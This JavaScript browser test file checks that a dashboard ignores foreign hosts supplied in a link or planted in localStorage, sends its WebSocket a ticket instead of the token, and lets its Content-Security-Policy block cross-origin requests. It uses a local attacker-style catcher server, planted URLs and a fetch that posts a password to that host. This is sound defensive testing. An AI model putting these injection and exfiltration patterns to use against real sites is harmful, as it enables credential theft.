// The dashboards talk only to the platform: hosts in a link or planted in storage are ignored, the
// Content-Security-Policy stops anything else, and the live connection carries a single-use ticket.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { browserSystem, signIn } from './support/browser.js';
import { eventually } from '../testing/env.js';

const system = await browserSystem();
const opts = system.skip ? { skip: system.skip } : {};

/** A server that only records what reaches it: an attacker's host a link might point the page to. */
async function startCatcher() {
  const requests = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      requests.push({ method: req.method, url: req.url, body });
      res.writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' });
      res.end('{"access_token":"x.y.z","id":1,"username":"evil","role":"provider"}');
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${server.address().port}`;
  return { url, requests, close: () => new Promise((resolve) => server.close(resolve)) };
}

describe('dashboards serve only their own origin', opts, () => {
  let catcher;
  let provider;
  let context;

  before(async () => {
    catcher = await startCatcher();
    provider = await system.api.register('provider', 'ui_origin');
    context = await system.browser.newContext();
  });

  after(async () => {
    await context?.close();
    await catcher?.close();
    await system.close();
  });

  test('a link naming other hosts, and hosts planted in storage, do not get the password', async () => {
    // what an earlier version of the page would have remembered from such a link
    await context.addInitScript((evil) => {
      for (const name of ['leads', 'payments', 'notify']) localStorage.setItem(`leadline.${name}Url`, evil);
    }, catcher.url);
    const requested = [];
    context.on('request', (request) => requested.push(request.url()));
    const sockets = [];
    context.on('page', (p) => p.on('websocket', (ws) => sockets.push(ws.url())));
    const link = system.pageUrl('index.html', { leads: catcher.url, payments: catcher.url, notify: catcher.url });
    const page = await signIn(context, link, provider);
    // either the page goes live with the platform, or it sent something to the other host
    await eventually(async () => catcher.requests.length > 0
      || (await page.locator('#conn').getAttribute('data-state')) === 'connected', 'the page to go live', 20_000);
    assert.deepEqual(catcher.requests.map((r) => `${r.method} ${r.url} ${r.body}`), [],
      'nothing reached the host named in the link (least of all the password)');
    if (system.config.paymentsUrl) {
      await page.locator('#balance[data-value]').waitFor({ timeout: 15_000 }); // the configured payments-service
    }

    assert.ok(requested.every((url) => !url.startsWith(catcher.url)), 'the browser never asked for it');
    assert.ok(requested.some((url) => url.startsWith(system.config.leadsUrl + '/api/auth/token')),
      'signed in at the configured leads-service');
    assert.ok(sockets.length >= 1 && sockets.every((url) => new URL(url).searchParams.has('ticket')),
      `the live connection carries a ticket (${sockets.join(', ')})`);
    assert.ok(sockets.every((url) => !url.includes('token=') && !url.includes(provider.token.split('.')[1])),
      'and never the token');
    await page.close();
  });

  test('the Content-Security-Policy blocks connections to any other origin', async () => {
    const page = await context.newPage();
    const violations = [];
    await page.exposeFunction('__violation', (directive) => violations.push(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => window.__violation(e.effectiveDirective));
    });
    await page.goto(system.pageUrl('index.html'));
    await page.waitForLoadState('load');
    // the page itself needs nothing the policy forbids (no inline script or style), toasts included
    await page.evaluate(async () => (await import('./js/app.js')).toast({ title: 'policy check' }));
    await page.locator('.toast', { hasText: 'policy check' }).waitFor({ timeout: 5_000 });
    assert.deepEqual(violations, [], 'no violation by the page itself');
    const outcome = await page.evaluate(async (evil) => {
      try {
        await fetch(evil + '/api/auth/token', { method: 'POST', body: '{"password":"secret"}', mode: 'no-cors' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    }, catcher.url);
    assert.equal(outcome, 'blocked');
    assert.deepEqual(catcher.requests.filter((r) => r.body.includes('secret')), [],
      'nothing left the page for the other origin');
    await eventually(() => violations.includes('connect-src'), 'the connect-src violation report');
    await page.close();
  });
});
